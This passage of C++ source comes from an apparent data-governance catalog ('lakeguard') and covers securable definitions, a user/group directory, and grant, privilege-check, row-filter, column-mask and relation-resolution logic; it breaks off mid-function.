  bool HasFineGrainedPolicies() const {
    return row_filter.has_value() || !column_masks.empty();
  }
};

/// A (possibly materialized) view. The definition is stored as SQL text and
/// expanded by the analyzer under the *definer's* identity boundary
/// (SecureView). Materialized views additionally own a storage root where
/// refreshed data lives.
struct ViewInfo {
  std::string full_name;
  std::string owner;
  std::string sql_text;
  bool materialized = false;
  std::string storage_root;        // only for materialized views
  bool materialization_fresh = false;
  /// Schema of the refreshed data (recorded by the refresh pipeline so the
  /// analyzer can type queries over the MV without reading storage).
  Schema materialized_schema;
};

/// A cataloged user-defined function — user code as a governed asset
/// (§3.3). `owner` is the trust domain its sandbox executions belong to.
struct FunctionInfo {
  std::string full_name;
  std::string owner;
  TypeKind return_type = TypeKind::kNull;
  uint32_t num_args = 0;
  UdfBytecode body;
  /// Egress hosts this function is allowed to call (admin-configured;
  /// empty = no egress).
  std::vector<std::string> allowed_egress;
};

/// A governed storage path prefix (raw-file access, §3.1: Unity Catalog
/// manages paths as well as tables).
struct VolumeInfo {
  std::string full_name;
  std::string owner;
  std::string storage_prefix;
};

}  // namespace lakeguard

#endif  // LAKEGUARD_CATALOG_SECURABLE_H_
