#ifndef LAKEGUARD_CATALOG_PRINCIPAL_H_
#define LAKEGUARD_CATALOG_PRINCIPAL_H_

#include <map>
#include <mutex>
#include <set>
#include <string>
#include <vector>

#include "common/status.h"

namespace lakeguard {

/// Account-level user/group directory. Groups are flat (no nesting) and
/// membership drives both grant resolution (grants to groups apply to
/// members) and the IS_ACCOUNT_GROUP_MEMBER() policy function.
class UserDirectory {
 public:
  UserDirectory() = default;

  Status AddUser(const std::string& user);
  Status AddGroup(const std::string& group);
  Status AddUserToGroup(const std::string& user, const std::string& group);
  Status RemoveUserFromGroup(const std::string& user,
                             const std::string& group);

  bool UserExists(const std::string& user) const;
  bool GroupExists(const std::string& group) const;
  bool IsMember(const std::string& user, const std::string& group) const;

  /// Sets an ABAC attribute on a user ("dept" -> "oncology"); policies
  /// reference it via USER_ATTRIBUTE('dept') (§2.3's attribute-based
  /// access control).
  Status SetAttribute(const std::string& user, const std::string& key,
                      const std::string& value);
  /// Returns the attribute value, or NotFound.
  Result<std::string> GetAttribute(const std::string& user,
                                   const std::string& key) const;

  /// Groups `user` belongs to, sorted.
  std::vector<std::string> GroupsOf(const std::string& user) const;
  /// Members of `group`, sorted.
  std::vector<std::string> MembersOf(const std::string& group) const;

 private:
  mutable std::mutex mu_;
  std::set<std::string> users_;
  std::map<std::string, std::set<std::string>> group_members_;
  std::map<std::string, std::map<std::string, std::string>> attributes_;
};

}  // namespace lakeguard

#endif  // LAKEGUARD_CATALOG_PRINCIPAL_H_
