#include "catalog/unity_catalog.h"

#include "common/strings.h"
#include "udf/verifier/cache.h"

namespace lakeguard {

const char* SecurableTypeName(SecurableType type) {
  switch (type) {
    case SecurableType::kCatalog:
      return "CATALOG";
    case SecurableType::kSchema:
      return "SCHEMA";
    case SecurableType::kTable:
      return "TABLE";
    case SecurableType::kView:
      return "VIEW";
    case SecurableType::kFunction:
      return "FUNCTION";
    case SecurableType::kVolume:
      return "VOLUME";
  }
  return "?";
}

const char* PrivilegeName(Privilege p) {
  switch (p) {
    case Privilege::kUseCatalog:
      return "USE CATALOG";
    case Privilege::kUseSchema:
      return "USE SCHEMA";
    case Privilege::kSelect:
      return "SELECT";
    case Privilege::kModify:
      return "MODIFY";
    case Privilege::kExecute:
      return "EXECUTE";
    case Privilege::kCreate:
      return "CREATE";
    case Privilege::kManage:
      return "MANAGE";
    case Privilege::kReadVolume:
      return "READ VOLUME";
    case Privilege::kWriteVolume:
      return "WRITE VOLUME";
  }
  return "?";
}

Result<Privilege> PrivilegeFromName(const std::string& name) {
  std::string up = ToUpperAscii(name);
  if (up == "USE CATALOG") return Privilege::kUseCatalog;
  if (up == "USE SCHEMA") return Privilege::kUseSchema;
  if (up == "SELECT") return Privilege::kSelect;
  if (up == "MODIFY") return Privilege::kModify;
  if (up == "EXECUTE") return Privilege::kExecute;
  if (up == "CREATE") return Privilege::kCreate;
  if (up == "MANAGE") return Privilege::kManage;
  if (up == "READ VOLUME") return Privilege::kReadVolume;
  if (up == "WRITE VOLUME") return Privilege::kWriteVolume;
  return Status::InvalidArgument("unknown privilege: " + name);
}

namespace {

std::string ParentSchema(const std::vector<std::string>& parts) {
  return parts[0] + "." + parts[1];
}

/// The unified existence-oracle message: identical for "does not exist" and
/// "exists but you may not know that" (modulo the name the caller supplied).
std::string InvisibleRelation(const std::string& name) {
  return "relation '" + name + "' does not exist or is not visible to you";
}

std::string InvisibleFunction(const std::string& name) {
  return "function '" + name + "' does not exist or is not visible to you";
}

}  // namespace

UnityCatalog::UnityCatalog(Clock* clock, CredentialAuthority* authority)
    : clock_(clock),
      authority_(authority),
      audit_(clock),
      state_(std::make_shared<const CatalogState>()) {
  // The control plane holds a long-lived token covering the whole metastore
  // prefix. It backs trusted operations only (writing table parts on create,
  // MV refresh); query-path reads always use per-user vended tokens.
  StorageCredential cred = authority_->Issue(
      "system", "control-plane", {"mem://*"}, /*allow_write=*/true,
      /*ttl_micros=*/365LL * 24 * 3600 * 1000 * 1000);
  system_token_ = cred.token_id;
}

std::shared_ptr<UnityCatalog::CatalogState> UnityCatalog::BeginMutation()
    const {
  return std::make_shared<CatalogState>(*Snapshot());
}

Status UnityCatalog::Publish(std::shared_ptr<CatalogState> next) {
  next->epoch = Snapshot()->epoch + 1;
  if (store_ != nullptr) {
    // Write-ahead: the image must be durable before anyone can observe the
    // new epoch. On failure the mutation evaporates — the in-memory state
    // was never touched, so the catalog is never ahead of its WAL.
    LG_RETURN_IF_ERROR(store_->LogPublish(ToImage(*next)));
  }
  state_.store(StatePtr(std::move(next)), std::memory_order_release);
  return Status::OK();
}

CatalogImage UnityCatalog::ToImage(const CatalogState& state) {
  CatalogImage image;
  image.epoch = state.epoch;
  image.admins.assign(state.admins.begin(), state.admins.end());
  image.catalogs = state.catalogs;
  image.schemas = state.schemas;
  image.tables = state.tables;
  image.views = state.views;
  image.functions = state.functions;
  image.volumes = state.volumes;
  for (const auto& [securable, entries] : state.grants) {
    std::vector<GrantRecord>& records = image.grants[securable];
    for (const GrantEntry& entry : entries) {
      records.push_back({entry.principal, entry.privilege});
    }
  }
  image.owners = state.owners;
  return image;
}

void UnityCatalog::FromImage(const CatalogImage& image, CatalogState* state) {
  state->epoch = image.epoch;
  state->admins.insert(image.admins.begin(), image.admins.end());
  state->catalogs = image.catalogs;
  state->schemas = image.schemas;
  state->tables = image.tables;
  state->views = image.views;
  state->functions = image.functions;
  state->volumes = image.volumes;
  for (const auto& [securable, records] : image.grants) {
    std::vector<GrantEntry>& entries = state->grants[securable];
    for (const GrantRecord& record : records) {
      entries.push_back({record.principal, record.privilege});
    }
  }
  state->owners = image.owners;
}

Status UnityCatalog::AttachDurability(DurableCatalogStore* store) {
  MutexLock lock(writer_mu_);
  if (Snapshot()->epoch != 0) {
    return Status::FailedPrecondition(
        "durability must be attached before any catalog mutation");
  }
  if (store->has_recovered_state()) {
    auto next = std::make_shared<CatalogState>();
    FromImage(store->recovered(), next.get());
    // Restores the EXACT last durably published epoch — plans bound to a
    // newer (lost-in-crash, never-acknowledged) epoch will fail their epoch
    // check rather than be silently mis-admitted.
    state_.store(StatePtr(std::move(next)), std::memory_order_release);
  }
  store_ = store;
  return Status::OK();
}

void UnityCatalog::Poison(Status status) {
  MutexLock lock(writer_mu_);
  poison_status_ = std::move(status);
  poisoned_.store(true, std::memory_order_release);
}

Status UnityCatalog::health() const {
  if (!poisoned_.load(std::memory_order_acquire)) return Status::OK();
  MutexLock lock(writer_mu_);
  return poison_status_;
}

Status UnityCatalog::HealthLocked() const {
  if (!poisoned_.load(std::memory_order_acquire)) return Status::OK();
  return poison_status_;
}

uint64_t UnityCatalog::epoch() const { return Snapshot()->epoch; }

Status UnityCatalog::AddMetastoreAdmin(const std::string& user) {
  MutexLock lock(writer_mu_);
  LG_RETURN_IF_ERROR(HealthLocked());
  auto next = BeginMutation();
  next->admins.insert(user);
  return Publish(std::move(next));
}

bool UnityCatalog::IsMetastoreAdmin(const std::string& user) const {
  return Snapshot()->admins.count(user) > 0;
}

Status UnityCatalog::SplitQualified(const std::string& full_name,
                                    std::vector<std::string>* parts,
                                    size_t want) const {
  *parts = SplitString(full_name, '.');
  if (parts->size() != want) {
    return Status::InvalidArgument("expected " + std::to_string(want) +
                                   "-part name, got '" + full_name + "'");
  }
  for (const std::string& p : *parts) {
    if (p.empty()) {
      return Status::InvalidArgument("empty name component in '" + full_name +
                                     "'");
    }
  }
  return Status::OK();
}

Status UnityCatalog::CreateCatalog(const std::string& as_user,
                                   const std::string& name) {
  MutexLock lock(writer_mu_);
  LG_RETURN_IF_ERROR(HealthLocked());
  auto next = BeginMutation();
  if (!next->admins.count(as_user)) {
    audit_.Record(as_user, "", "CREATE_CATALOG", name, false,
                  "not a metastore admin");
    return Status::PermissionDenied("only metastore admins create catalogs");
  }
  if (next->catalogs.count(name)) {
    return Status::AlreadyExists("catalog '" + name + "' exists");
  }
  next->catalogs[name] = as_user;
  next->owners[name] = as_user;
  LG_RETURN_IF_ERROR(
      audit_.RecordDurable(as_user, "", "CREATE_CATALOG", name, true));
  return Publish(std::move(next));
}

Status UnityCatalog::CreateSchema(const std::string& as_user,
                                  const std::string& full_name) {
  std::vector<std::string> parts;
  LG_RETURN_IF_ERROR(SplitQualified(full_name, &parts, 2));
  MutexLock lock(writer_mu_);
  LG_RETURN_IF_ERROR(HealthLocked());
  auto next = BeginMutation();
  auto cat = next->catalogs.find(parts[0]);
  if (cat == next->catalogs.end()) {
    return Status::NotFound("catalog '" + parts[0] + "' does not exist");
  }
  bool allowed = next->admins.count(as_user) || cat->second == as_user ||
                 PrincipalsHavePrivilege(*next, {as_user}, parts[0],
                                         Privilege::kCreate);
  if (!allowed) {
    audit_.Record(as_user, "", "CREATE_SCHEMA", full_name, false);
    return Status::PermissionDenied("no CREATE on catalog '" + parts[0] + "'");
  }
  if (next->schemas.count(full_name)) {
    return Status::AlreadyExists("schema '" + full_name + "' exists");
  }
  next->schemas[full_name] = as_user;
  next->owners[full_name] = as_user;
  LG_RETURN_IF_ERROR(
      audit_.RecordDurable(as_user, "", "CREATE_SCHEMA", full_name, true));
  return Publish(std::move(next));
}

Status UnityCatalog::CreateTable(const std::string& as_user, TableInfo info) {
  std::vector<std::string> parts;
  LG_RETURN_IF_ERROR(SplitQualified(info.full_name, &parts, 3));
  MutexLock lock(writer_mu_);
  LG_RETURN_IF_ERROR(HealthLocked());
  auto next = BeginMutation();
  std::string schema_name = ParentSchema(parts);
  auto schema_it = next->schemas.find(schema_name);
  if (schema_it == next->schemas.end()) {
    return Status::NotFound("schema '" + schema_name + "' does not exist");
  }
  bool allowed = next->admins.count(as_user) || schema_it->second == as_user ||
                 PrincipalsHavePrivilege(*next, {as_user}, schema_name,
                                         Privilege::kCreate);
  if (!allowed) {
    audit_.Record(as_user, "", "CREATE_TABLE", info.full_name, false);
    return Status::PermissionDenied("no CREATE on schema '" + schema_name +
                                    "'");
  }
  if (next->tables.count(info.full_name) || next->views.count(info.full_name)) {
    return Status::AlreadyExists("relation '" + info.full_name + "' exists");
  }
  if (info.storage_root.empty()) {
    info.storage_root = "mem://metastore/" + parts[0] + "/" + parts[1] + "/" +
                        parts[2];
  }
  info.owner = as_user;
  std::string full_name = info.full_name;
  next->owners[full_name] = as_user;
  next->tables[full_name] = std::move(info);
  LG_RETURN_IF_ERROR(
      audit_.RecordDurable(as_user, "", "CREATE_TABLE", full_name, true));
  return Publish(std::move(next));
}

Status UnityCatalog::CreateView(const std::string& as_user, ViewInfo info) {
  std::vector<std::string> parts;
  LG_RETURN_IF_ERROR(SplitQualified(info.full_name, &parts, 3));
  MutexLock lock(writer_mu_);
  LG_RETURN_IF_ERROR(HealthLocked());
  auto next = BeginMutation();
  std::string schema_name = ParentSchema(parts);
  auto schema_it = next->schemas.find(schema_name);
  if (schema_it == next->schemas.end()) {
    return Status::NotFound("schema '" + schema_name + "' does not exist");
  }
  bool allowed = next->admins.count(as_user) || schema_it->second == as_user ||
                 PrincipalsHavePrivilege(*next, {as_user}, schema_name,
                                         Privilege::kCreate);
  if (!allowed) {
    audit_.Record(as_user, "", "CREATE_VIEW", info.full_name, false);
    return Status::PermissionDenied("no CREATE on schema '" + schema_name +
                                    "'");
  }
  if (next->tables.count(info.full_name) || next->views.count(info.full_name)) {
    return Status::AlreadyExists("relation '" + info.full_name + "' exists");
  }
  if (info.materialized && info.storage_root.empty()) {
    info.storage_root = "mem://metastore/_mv/" + parts[0] + "/" + parts[1] +
                        "/" + parts[2];
  }
  info.owner = as_user;
  std::string full_name = info.full_name;
  next->owners[full_name] = as_user;
  next->views[full_name] = std::move(info);
  LG_RETURN_IF_ERROR(
      audit_.RecordDurable(as_user, "", "CREATE_VIEW", full_name, true));
  return Publish(std::move(next));
}

Status UnityCatalog::CreateFunction(const std::string& as_user,
                                    FunctionInfo info) {
  std::vector<std::string> parts;
  LG_RETURN_IF_ERROR(SplitQualified(info.full_name, &parts, 3));
  // Full static verification at registration: a malformed program never
  // enters the catalog. Verification is policy-independent, so programs
  // that loop, need capabilities, or move tainted data register fine —
  // admission decides those per trust domain (and caches by program hash,
  // which this call warms).
  LG_RETURN_IF_ERROR(
      VerifiedProgramCache::Global()->GetOrVerify(info.body).status());
  MutexLock lock(writer_mu_);
  LG_RETURN_IF_ERROR(HealthLocked());
  auto next = BeginMutation();
  std::string schema_name = ParentSchema(parts);
  auto schema_it = next->schemas.find(schema_name);
  if (schema_it == next->schemas.end()) {
    return Status::NotFound("schema '" + schema_name + "' does not exist");
  }
  bool allowed = next->admins.count(as_user) || schema_it->second == as_user ||
                 PrincipalsHavePrivilege(*next, {as_user}, schema_name,
                                         Privilege::kCreate);
  if (!allowed) {
    audit_.Record(as_user, "", "CREATE_FUNCTION", info.full_name, false);
    return Status::PermissionDenied("no CREATE on schema '" + schema_name +
                                    "'");
  }
  if (next->functions.count(info.full_name)) {
    return Status::AlreadyExists("function '" + info.full_name + "' exists");
  }
  info.owner = as_user;
  std::string full_name = info.full_name;
  next->owners[full_name] = as_user;
  next->functions[full_name] = std::move(info);
  LG_RETURN_IF_ERROR(
      audit_.RecordDurable(as_user, "", "CREATE_FUNCTION", full_name, true));
  return Publish(std::move(next));
}

Status UnityCatalog::CreateVolume(const std::string& as_user,
                                  VolumeInfo info) {
  std::vector<std::string> parts;
  LG_RETURN_IF_ERROR(SplitQualified(info.full_name, &parts, 3));
  MutexLock lock(writer_mu_);
  LG_RETURN_IF_ERROR(HealthLocked());
  auto next = BeginMutation();
  std::string schema_name = ParentSchema(parts);
  if (!next->schemas.count(schema_name)) {
    return Status::NotFound("schema '" + schema_name + "' does not exist");
  }
  if (next->volumes.count(info.full_name)) {
    return Status::AlreadyExists("volume '" + info.full_name + "' exists");
  }
  info.owner = as_user;
  std::string full_name = info.full_name;
  next->owners[full_name] = as_user;
  next->volumes[full_name] = std::move(info);
  LG_RETURN_IF_ERROR(
      audit_.RecordDurable(as_user, "", "CREATE_VOLUME", full_name, true));
  return Publish(std::move(next));
}

Status UnityCatalog::DropTable(const std::string& as_user,
                               const std::string& full_name) {
  MutexLock lock(writer_mu_);
  LG_RETURN_IF_ERROR(HealthLocked());
  auto next = BeginMutation();
  auto it = next->tables.find(full_name);
  if (it == next->tables.end()) {
    return Status::NotFound("table '" + full_name + "' does not exist");
  }
  if (!next->admins.count(as_user) && it->second.owner != as_user) {
    audit_.Record(as_user, "", "DROP_TABLE", full_name, false);
    return Status::PermissionDenied("only the owner drops a table");
  }
  next->tables.erase(it);
  next->owners.erase(full_name);
  next->grants.erase(full_name);
  LG_RETURN_IF_ERROR(
      audit_.RecordDurable(as_user, "", "DROP_TABLE", full_name, true));
  return Publish(std::move(next));
}

Result<TableInfo> UnityCatalog::GetTable(const std::string& full_name) const {
  StatePtr state = Snapshot();
  auto it = state->tables.find(full_name);
  if (it == state->tables.end()) {
    return Status::NotFound("table '" + full_name + "' does not exist");
  }
  return it->second;
}

Result<ViewInfo> UnityCatalog::GetView(const std::string& full_name) const {
  StatePtr state = Snapshot();
  auto it = state->views.find(full_name);
  if (it == state->views.end()) {
    return Status::NotFound("view '" + full_name + "' does not exist");
  }
  return it->second;
}

Result<VolumeInfo> UnityCatalog::GetVolume(
    const std::string& full_name) const {
  StatePtr state = Snapshot();
  auto it = state->volumes.find(full_name);
  if (it == state->volumes.end()) {
    return Status::NotFound("volume '" + full_name + "' does not exist");
  }
  return it->second;
}

std::vector<std::string> UnityCatalog::ListTables() const {
  StatePtr state = Snapshot();
  std::vector<std::string> out;
  for (const auto& [name, info] : state->tables) out.push_back(name);
  return out;
}

Status UnityCatalog::SetMaterializationState(const std::string& view_name,
                                             bool fresh,
                                             const std::string& storage_root,
                                             const Schema& schema) {
  MutexLock lock(writer_mu_);
  LG_RETURN_IF_ERROR(HealthLocked());
  auto next = BeginMutation();
  auto it = next->views.find(view_name);
  if (it == next->views.end()) {
    return Status::NotFound("view '" + view_name + "' does not exist");
  }
  if (!it->second.materialized) {
    return Status::FailedPrecondition("view '" + view_name +
                                      "' is not materialized");
  }
  it->second.materialization_fresh = fresh;
  if (!storage_root.empty()) it->second.storage_root = storage_root;
  if (schema.num_fields() > 0) it->second.materialized_schema = schema;
  return Publish(std::move(next));
}

Status UnityCatalog::Grant(const std::string& as_user,
                           const std::string& securable, Privilege privilege,
                           const std::string& principal) {
  MutexLock lock(writer_mu_);
  LG_RETURN_IF_ERROR(HealthLocked());
  auto next = BeginMutation();
  auto owner_it = next->owners.find(securable);
  if (owner_it == next->owners.end()) {
    return Status::NotFound("securable '" + securable + "' does not exist");
  }
  bool allowed = next->admins.count(as_user) || owner_it->second == as_user ||
                 PrincipalsHavePrivilege(*next, {as_user}, securable,
                                         Privilege::kManage);
  if (!allowed) {
    audit_.Record(as_user, "", "GRANT", securable, false,
                  std::string(PrivilegeName(privilege)) + " to " + principal);
    return Status::PermissionDenied("no MANAGE on '" + securable + "'");
  }
  next->grants[securable].push_back({principal, privilege});
  // Write-ahead: the grant is in the audit log before anyone can observe it.
  LG_RETURN_IF_ERROR(audit_.RecordDurable(
      as_user, "", "GRANT", securable, true,
      std::string(PrivilegeName(privilege)) + " to " + principal));
  return Publish(std::move(next));
}

Status UnityCatalog::Revoke(const std::string& as_user,
                            const std::string& securable, Privilege privilege,
                            const std::string& principal) {
  MutexLock lock(writer_mu_);
  LG_RETURN_IF_ERROR(HealthLocked());
  auto next = BeginMutation();
  auto owner_it = next->owners.find(securable);
  if (owner_it == next->owners.end()) {
    return Status::NotFound("securable '" + securable + "' does not exist");
  }
  bool allowed = next->admins.count(as_user) || owner_it->second == as_user ||
                 PrincipalsHavePrivilege(*next, {as_user}, securable,
                                         Privilege::kManage);
  if (!allowed) {
    return Status::PermissionDenied("no MANAGE on '" + securable + "'");
  }
  auto& entries = next->grants[securable];
  for (auto it = entries.begin(); it != entries.end(); ++it) {
    if (it->principal == principal && it->privilege == privilege) {
      entries.erase(it);
      LG_RETURN_IF_ERROR(audit_.RecordDurable(
          as_user, "", "REVOKE", securable, true,
          std::string(PrivilegeName(privilege)) + " from " + principal));
      return Publish(std::move(next));
    }
  }
  return Status::NotFound("no such grant to revoke");
}

std::vector<std::string> UnityCatalog::EffectivePrincipals(
    const std::string& user, const ComputeContext& compute) const {
  if (!compute.downscope_group.empty()) {
    // §4.2: on dedicated group clusters every attached user's permissions
    // are reduced to exactly the group's.
    return {compute.downscope_group};
  }
  std::vector<std::string> principals = users_.GroupsOf(user);
  principals.push_back(user);
  return principals;
}

bool UnityCatalog::PrincipalsHavePrivilege(
    const CatalogState& state, const std::vector<std::string>& principals,
    const std::string& securable, Privilege privilege) {
  auto it = state.grants.find(securable);
  if (it == state.grants.end()) return false;
  for (const GrantEntry& entry : it->second) {
    if (entry.privilege != privilege) continue;
    for (const std::string& p : principals) {
      if (entry.principal == p) return true;
    }
  }
  return false;
}

bool UnityCatalog::PrincipalsOwn(const CatalogState& state,
                                 const std::vector<std::string>& principals,
                                 const std::string& securable) {
  auto it = state.owners.find(securable);
  if (it == state.owners.end()) return false;
  for (const std::string& p : principals) {
    if (it->second == p) return true;
  }
  return false;
}

bool UnityCatalog::CheckDataAccess(const CatalogState& state,
                                   const std::string& user,
                                   const ComputeContext& compute,
                                   const std::string& securable,
                                   Privilege privilege,
                                   std::string* why) const {
  std::vector<std::string> principals = EffectivePrincipals(user, compute);
  // Admin bypass applies to the real user unless down-scoped.
  if (compute.downscope_group.empty() && state.admins.count(user)) return true;
  if (PrincipalsOwn(state, principals, securable)) return true;

  std::vector<std::string> parts = SplitString(securable, '.');
  if (parts.size() == 3) {
    if (!PrincipalsOwn(state, principals, parts[0]) &&
        !PrincipalsHavePrivilege(state, principals, parts[0],
                                 Privilege::kUseCatalog)) {
      if (why) *why = "missing USE CATALOG on '" + parts[0] + "'";
      return false;
    }
    std::string schema_name = parts[0] + "." + parts[1];
    if (!PrincipalsOwn(state, principals, schema_name) &&
        !PrincipalsHavePrivilege(state, principals, schema_name,
                                 Privilege::kUseSchema)) {
      if (why) *why = "missing USE SCHEMA on '" + schema_name + "'";
      return false;
    }
  }
  if (!PrincipalsHavePrivilege(state, principals, securable, privilege)) {
    if (why) {
      *why = std::string("missing ") + PrivilegeName(privilege) + " on '" +
             securable + "'";
    }
    return false;
  }
  return true;
}

bool UnityCatalog::HasNamespaceVisibility(const CatalogState& state,
                                          const std::string& user,
                                          const ComputeContext& compute,
                                          const std::string& securable) const {
  std::vector<std::string> principals = EffectivePrincipals(user, compute);
  if (compute.downscope_group.empty() && state.admins.count(user)) return true;
  if (PrincipalsOwn(state, principals, securable)) return true;
  std::vector<std::string> parts = SplitString(securable, '.');
  if (parts.size() != 3) return true;
  if (!PrincipalsOwn(state, principals, parts[0]) &&
      !PrincipalsHavePrivilege(state, principals, parts[0],
                               Privilege::kUseCatalog)) {
    return false;
  }
  std::string schema_name = parts[0] + "." + parts[1];
  if (!PrincipalsOwn(state, principals, schema_name) &&
      !PrincipalsHavePrivilege(state, principals, schema_name,
                               Privilege::kUseSchema)) {
    return false;
  }
  return true;
}

bool UnityCatalog::HasPrivilege(const std::string& user,
                                const std::string& securable,
                                Privilege privilege) const {
  StatePtr state = Snapshot();
  ComputeContext none;
  none.downscope_group.clear();
  return CheckDataAccess(*state, user, none, securable, privilege, nullptr);
}

std::set<Privilege> UnityCatalog::EffectivePrivileges(
    const std::string& user, const std::string& securable) const {
  // One snapshot for the whole enumeration — never mixes epochs.
  StatePtr state = Snapshot();
  ComputeContext none;
  std::set<Privilege> out;
  for (Privilege p :
       {Privilege::kUseCatalog, Privilege::kUseSchema, Privilege::kSelect,
        Privilege::kModify, Privilege::kExecute, Privilege::kCreate,
        Privilege::kManage, Privilege::kReadVolume, Privilege::kWriteVolume}) {
    if (CheckDataAccess(*state, user, none, securable, p, nullptr)) {
      out.insert(p);
    }
  }
  return out;
}

Status UnityCatalog::RequireManage(const CatalogState& state,
                                   const std::string& as_user,
                                   const std::string& table) {
  auto owner_it = state.owners.find(table);
  if (owner_it == state.owners.end()) {
    return Status::NotFound("securable '" + table + "' does not exist");
  }
  if (state.admins.count(as_user) || owner_it->second == as_user ||
      PrincipalsHavePrivilege(state, {as_user}, table, Privilege::kManage)) {
    return Status::OK();
  }
  return Status::PermissionDenied("no MANAGE on '" + table + "'");
}

Status UnityCatalog::SetRowFilter(const std::string& as_user,
                                  const std::string& table,
                                  RowFilterPolicy policy) {
  MutexLock lock(writer_mu_);
  LG_RETURN_IF_ERROR(HealthLocked());
  auto next = BeginMutation();
  LG_RETURN_IF_ERROR(RequireManage(*next, as_user, table));
  auto it = next->tables.find(table);
  if (it == next->tables.end()) {
    return Status::NotFound("table '" + table + "' does not exist");
  }
  if (!policy.predicate) {
    return Status::InvalidArgument("row filter predicate is required");
  }
  it->second.row_filter = std::move(policy);
  LG_RETURN_IF_ERROR(
      audit_.RecordDurable(as_user, "", "SET_ROW_FILTER", table, true));
  return Publish(std::move(next));
}

Status UnityCatalog::ClearRowFilter(const std::string& as_user,
                                    const std::string& table) {
  MutexLock lock(writer_mu_);
  LG_RETURN_IF_ERROR(HealthLocked());
  auto next = BeginMutation();
  LG_RETURN_IF_ERROR(RequireManage(*next, as_user, table));
  auto it = next->tables.find(table);
  if (it == next->tables.end()) {
    return Status::NotFound("table '" + table + "' does not exist");
  }
  it->second.row_filter.reset();
  LG_RETURN_IF_ERROR(
      audit_.RecordDurable(as_user, "", "CLEAR_ROW_FILTER", table, true));
  return Publish(std::move(next));
}

Status UnityCatalog::AddColumnMask(const std::string& as_user,
                                   const std::string& table,
                                   ColumnMaskPolicy policy) {
  MutexLock lock(writer_mu_);
  LG_RETURN_IF_ERROR(HealthLocked());
  auto next = BeginMutation();
  LG_RETURN_IF_ERROR(RequireManage(*next, as_user, table));
  auto it = next->tables.find(table);
  if (it == next->tables.end()) {
    return Status::NotFound("table '" + table + "' does not exist");
  }
  if (it->second.schema.FindField(policy.column) < 0) {
    return Status::InvalidArgument("table has no column '" + policy.column +
                                   "'");
  }
  if (!policy.mask_expr) {
    return Status::InvalidArgument("mask expression is required");
  }
  it->second.column_masks.push_back(std::move(policy));
  LG_RETURN_IF_ERROR(
      audit_.RecordDurable(as_user, "", "ADD_COLUMN_MASK", table, true));
  return Publish(std::move(next));
}

Status UnityCatalog::ClearColumnMasks(const std::string& as_user,
                                      const std::string& table) {
  MutexLock lock(writer_mu_);
  LG_RETURN_IF_ERROR(HealthLocked());
  auto next = BeginMutation();
  LG_RETURN_IF_ERROR(RequireManage(*next, as_user, table));
  auto it = next->tables.find(table);
  if (it == next->tables.end()) {
    return Status::NotFound("table '" + table + "' does not exist");
  }
  it->second.column_masks.clear();
  LG_RETURN_IF_ERROR(
      audit_.RecordDurable(as_user, "", "CLEAR_COLUMN_MASKS", table, true));
  return Publish(std::move(next));
}

Status UnityCatalog::SetTablePolicies(
    const std::string& as_user, const std::string& table,
    std::optional<RowFilterPolicy> row_filter,
    std::vector<ColumnMaskPolicy> column_masks) {
  MutexLock lock(writer_mu_);
  LG_RETURN_IF_ERROR(HealthLocked());
  auto next = BeginMutation();
  LG_RETURN_IF_ERROR(RequireManage(*next, as_user, table));
  auto it = next->tables.find(table);
  if (it == next->tables.end()) {
    return Status::NotFound("table '" + table + "' does not exist");
  }
  if (row_filter && !row_filter->predicate) {
    return Status::InvalidArgument("row filter predicate is required");
  }
  for (const ColumnMaskPolicy& mask : column_masks) {
    if (it->second.schema.FindField(mask.column) < 0) {
      return Status::InvalidArgument("table has no column '" + mask.column +
                                     "'");
    }
    if (!mask.mask_expr) {
      return Status::InvalidArgument("mask expression is required");
    }
  }
  it->second.row_filter = std::move(row_filter);
  it->second.column_masks = std::move(column_masks);
  LG_RETURN_IF_ERROR(
      audit_.RecordDurable(as_user, "", "SET_TABLE_POLICIES", table, true));
  return Publish(std::move(next));
}

Result<RelationResolution> UnityCatalog::ResolveRelation(
    const std::string& user, const ComputeContext& compute,
    const std::string& name) {
  // Fail closed: a poisoned catalog authorizes nothing.
  LG_RETURN_IF_ERROR(health());
  // One pinned snapshot for every decision below: existence, privileges,
  // enforcement mode, policy set. A concurrent policy change lands in a
  // later epoch and cannot produce a mixed view here.
  StatePtr state = Snapshot();

  auto table_it = state->tables.find(name);
  auto view_it = state->views.find(name);
  if (table_it == state->tables.end() && view_it == state->views.end()) {
    audit_.Record(user, compute.compute_id, "RESOLVE_RELATION", name, false,
                  "not found");
    return Status::NotFound(InvisibleRelation(name));
  }

  std::string why;
  if (!CheckDataAccess(*state, user, compute, name, Privilege::kSelect,
                       &why)) {
    // The audit trail records the true reason; the caller does not. Without
    // namespace visibility the denial is indistinguishable from absence —
    // otherwise error text would be an existence oracle over names the user
    // may not even enumerate.
    audit_.Record(user, compute.compute_id, "RESOLVE_RELATION", name, false,
                  why);
    if (!HasNamespaceVisibility(*state, user, compute, name)) {
      return Status::NotFound(InvisibleRelation(name));
    }
    return Status::PermissionDenied("user '" + user + "' cannot SELECT from '" +
                                    name + "': " + why);
  }

  RelationResolution res;

  if (view_it != state->views.end()) {
    const ViewInfo& view = view_it->second;
    res.type = SecurableType::kView;
    res.view = view;
    // Fresh materialized views behave like tables over their stored data.
    if (view.materialized && view.materialization_fresh) {
      res.type = SecurableType::kTable;
      res.table.full_name = view.full_name;
      res.table.owner = view.owner;
      res.table.storage_root = view.storage_root;
      // Schema is carried by the stored data; engine reads the manifest.
      if (compute.privileged_access) {
        res.enforcement = EnforcementMode::kExternal;
      } else {
        res.enforcement = EnforcementMode::kLocal;
        StorageCredential cred = authority_->Issue(
            user, compute.compute_id, {view.storage_root + "/*"},
            /*allow_write=*/false, kCredentialTtlMicros);
        res.read_token = cred.token_id;
      }
      audit_.Record(user, compute.compute_id, "RESOLVE_RELATION", name, true,
                    "materialized view");
      return res;
    }
    // Logical views: a privileged cluster cannot expand the definition
    // locally (the definition embeds other relations and possibly policy
    // semantics); enforcement moves external. Standard clusters expand the
    // view under a SecureView barrier.
    res.enforcement = compute.privileged_access ? EnforcementMode::kExternal
                                                : EnforcementMode::kLocal;
    audit_.Record(user, compute.compute_id, "RESOLVE_RELATION", name, true,
                  res.enforcement == EnforcementMode::kExternal
                      ? "view -> external"
                      : "view -> local expansion");
    return res;
  }

  const TableInfo& table = table_it->second;
  res.type = SecurableType::kTable;
  res.table = table;

  const bool has_policies = table.HasFineGrainedPolicies();
  if (has_policies && compute.privileged_access) {
    // §3.4: the privileged cluster learns only basic metadata — name and
    // schema — plus the fact that local processing is not allowed. No
    // predicates, no mask expressions, no storage credential.
    res.enforcement = EnforcementMode::kExternal;
